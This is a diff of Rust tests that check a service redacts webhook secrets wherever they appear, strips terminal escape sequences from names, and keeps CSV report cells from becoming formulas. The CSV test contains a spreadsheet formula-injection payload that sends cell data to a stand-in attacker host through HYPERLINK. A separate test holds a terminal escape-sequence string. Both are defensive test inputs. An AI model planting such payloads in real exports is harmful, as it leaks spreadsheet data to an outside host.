@@ -91,6 +91,20 @@ async fn no_secret_is_kept_with_what_was_not_understood() {
     assert!(!body.contains("s3cr3t") && body.contains("Ufa"), "{body}");
 }
 
+#[tokio::test]
+async fn a_secret_is_not_kept_under_another_name_or_deep_in_a_body() {
+    let vk = serde_json::json!({
+        "type": "new_thing", "group_id": 191_949_777, "secret": "s3cr3t-of-vk", "object": { "copy": ["s3cr3t-of-vk"] },
+        "note": "it is s3cr3t-of-vk",
+    });
+    let (_, body) = kept("vk", "s3cr3t-of-vk", |path| stagedoor_testkit::json(path, &vk)).await;
+    assert!(!body.contains("s3cr3t") && body.contains("it is "), "{body}");
+    let fields =
+        [("token", "s3cr3t-of-cq"), ("type", "strange"), ("old_token", "s3cr3t-of-cq"), ("a[b]", "{s3cr3t-of-cq}")];
+    let (_, body) = kept("carrotquest", "s3cr3t-of-cq", |path| form(path, &fields)).await;
+    assert!(!body.contains("s3cr3t") && body.contains("type=strange"), "{body}");
+}
+
 #[test]
 fn a_name_moves_no_cursor_and_begins_no_line() {
     let name = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mRed\u{202e}gpj\r\nfake line\u{9b}0m\u{2028}";
@@ -176,7 +190,7 @@ fn child_prints_much() {
 #[tokio::test]
 async fn no_cell_of_a_report_is_a_formula() {
     let hub = TestHub::start().await;
-    let city = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ufa\")";
+    let city = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ufa\"); @SUM(A1);+1;\t=2";
     let show = serde_json::json!({ "id": "evil-1", "title": "Show", "city": city });
     let at = (hub.now() - std::time::Duration::from_secs(3600)).to_string();
     let order = serde_json::json!({ "type": "order", "data": {
@@ -194,8 +208,9 @@ async fn no_cell_of_a_report_is_a_formula() {
     let csv = stagedoor::report::report(&hub.hub).await.expect("a report").csv().expect("CSV");
     assert!(csv.contains("HYPERLINK"), "the city is in it: {csv}");
     for line in csv.lines().skip(1) {
-        for cell in line.split(',') {
-            let cell = cell.trim_start_matches('"');
+        // Excel in Russian parts cells at semicolons.
+        for cell in line.split([',', ';', '\t']) {
+            let cell = cell.trim_start_matches(['"', ' ']);
             assert!(cell == "-" || !cell.starts_with(['=', '+', '-', '@']), "{cell} in {csv}");
         }
     }
